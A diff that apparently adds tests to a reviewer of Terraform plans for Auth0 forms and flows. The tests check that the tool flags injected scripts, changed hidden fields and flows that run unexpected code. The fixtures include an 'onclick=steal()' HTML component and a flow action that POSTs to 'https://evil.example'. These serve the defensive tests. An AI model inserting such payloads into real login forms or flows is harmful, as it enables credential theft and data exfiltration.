@@ -98,3 +98,93 @@ test("other words for yes and no, or for a field, are no other meaning", () => {
   expect(told(planThatChanges(words, CHOICES)).findings).toEqual([]);
   expect(told(planThatChanges(inNodes(LABEL, '"label":"Your role"'), CHOICES)).findings).toEqual([]);
 });
+
+test.each<[string, Attributes, Attributes, readonly string[]]>([
+  [
+    "component",
+    inNodes('"components":[', '"components":[{"id":"role","type":"HTML","config":{"content":"<p onclick=steal()>"}},'),
+    {},
+    [
+      'runs-code: The form runs other code in people\'s browsers than before: `<p onclick="steal()">` in `role` of stage `Role`. It can read what they enter, and send it anywhere.',
+    ],
+  ],
+  [
+    "step",
+    {
+      auth0_form: {
+        nodes: (text: string) => text.replace(/\]$/, ',{"id":"step_role","type":"STEP","alias":"Other"}]'),
+      },
+    },
+    {},
+    ["never-asked: No login gets to stage `Other`: nothing in the form leads there."],
+  ],
+  [
+    "hidden field",
+    { auth0_form: { start: replaced('"hidden_fields":[', '"hidden_fields":[{"key":"plan","value":"paid"},') } },
+    { auth0_form: { start: replaced("{", '{"hidden_fields":[{"key":"plan","value":"free"}],') } },
+    [
+      "hidden-data: What goes with the form unseen is another: `plan` `free` → `paid` in its hidden fields; `plan (2)` nothing → `free` in its hidden fields.",
+    ],
+  ],
+])("a second %s with the same id hides nothing", (_, change, before, findings) => {
+  const { findings: found } = told(planThatChanges(change, before));
+
+  expect(findings.filter((one) => !found.includes(one))).toEqual([]);
+});
+
+const saving = (value: string): Attributes => ({ auth0_flow: { actions: replaced("{{fields.role}}", value) } });
+
+test.each(["{{fields.role}} admin", "admin{{fields.role}}", "{{fields.role}}7", "役{{fields.role}}"])(
+  "%s is more than an answer",
+  (value) => {
+    expect(told(planThatChanges(saving(value))).findings).toEqual([
+      "flow-code: The flow `Team W` changes in more than the answers that it writes: it now sets `user_metadata.role`.",
+    ]);
+  },
+);
+
+test.each([" {{fields.role}} ", "{{fields.role}}, {{fields.role}}", "({{ fields.role }})"])(
+  "%s is an answer",
+  (value) => {
+    expect(told(planThatChanges(saving(value))).findings).toEqual([]);
+  },
+);
+
+const RESEND = {
+  id: "again",
+  category: "BLOCK",
+  type: "RESEND_BUTTON",
+  config: { active_text: "a", button_text: "b", waiting_text: "c", flow_id: "af_ours" },
+};
+const OTHER_FLOW = {
+  "auth0_flow.other": {
+    id: "af_other",
+    name: "Other",
+    actions:
+      '[{"id":"call","type":"HTTP","action":"SEND_REQUEST","params":{"method":"POST","url":"https://evil.example"}}]',
+  },
+};
+const UNHELD = "flow-code: The form runs the flow `af_evil` now: what that does, no plan here holds.";
+
+describe("another flow that a form runs is told, where it is run by", () => {
+  test.each<[string, Attributes]>([
+    ["a node", inNodes("af_wtcLnKcIprJQwNwxDa3ATX", "af_evil")],
+    ["a button that sends again", inNodes("af_ours", "af_evil")],
+    ["the ending", { auth0_form: { ending: replaced("{", '{"after_submit":{"flow_id":"af_evil"},') } }],
+  ])("%s", (_, change) => {
+    expect(told(planThatChanges(change, withComponents(RESEND))).findings).toContain(UNHELD);
+  });
+
+  test("a node that is new, with what it does where the plan holds it", () => {
+    const plan = planThatChanges(inNodes("af_ours", "af_other"), withComponents(RESEND), OTHER_FLOW);
+    for (const { address, change } of plan.resource_changes) {
+      if (address === "auth0_flow.other") {
+        Object.assign(change, { actions: ["no-op"], before: change.after });
+      }
+    }
+
+    expect(told(plan).findings).toEqual([
+      "flow-code: The form runs the flow `Other` now: it runs `HTTP/SEND_REQUEST` with `https://evil.example`.",
+    ]);
+  });
+});
